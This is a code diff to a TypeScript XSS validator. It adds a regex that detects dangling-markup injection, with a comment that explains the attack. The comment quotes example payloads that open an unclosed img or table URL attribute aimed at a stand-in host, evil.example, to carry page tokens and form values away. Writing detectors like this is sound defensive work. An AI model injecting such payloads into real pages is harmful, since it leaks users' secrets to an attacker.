@@ -24,6 +24,7 @@ export function isXss(value: string): boolean {
   }
   if (value.includes('document') && DOM_CONTENT_WRITE.test(value)) return true;
   if (VBSCRIPT_CODE.test(value)) return true;
+  if (value.includes('//') && DANGLING_URL.test(value)) return true;
   if (value.includes('chemaLocation') && isForeignSchemaLocation(value)) return true;
   // JavaScript reads a comment as a blank: `document /*x*/ . cookie`, `self[/*x*/"alert"](1)`.
   if (value.includes('/*') && scriptCode(value.replace(/\/\*[^]{0,200}?\*\//g, ' '))) return true;
@@ -94,6 +95,19 @@ const UTF7_TAG = /(?:\+|%2b)ADw-\s*\/?(?:script|img|svg|iframe|body|html|style|a
 export function isUtf7Markup(value: string): boolean {
   return UTF7_TAG.test(value);
 }
+
+/**
+ * Dangling markup: after what closes the page's attribute or tag, a tag whose URL attribute opens a
+ * quote, names another host and is never closed (`"><img src='//evil.example/log?`,
+ * `'><table background='https://evil.example/?`): the browser
+ * takes the page's own text up to its next quote as the rest of the URL's query and sends it there
+ * (tokens, form values), with no script at all. A whole tag (`<img src="https://cdn.example/a.png">`)
+ * closes its quote, a link cut short without a query (`<a href="https://example.com/page`) has
+ * nowhere to carry the page, and a post cut short in a link (`Here's a video: <a href="https://...?v=`,
+ * a CRS false-positive test) breaks out of nothing.
+ */
+const DANGLING_URL =
+  /^\s*['"`]?\s*\/?>\s*<[a-z][\w-]{0,20}(?:\s[^<>]{0,200})?\s(?:src|href|action|formaction|background|poster|data|cite|ping|lowsrc|dynsrc)\s*=\s*(['"])\s*(?:[a-z][\w+.-]{0,20}:)?\/\/[^'"\s<>?]{1,300}\?[^'"\s<>]{0,100}$/i;
 
 /**
  * VBScript, which Internet Explorer runs in `vbscript:` URLs and `<script language=vbscript>`: a
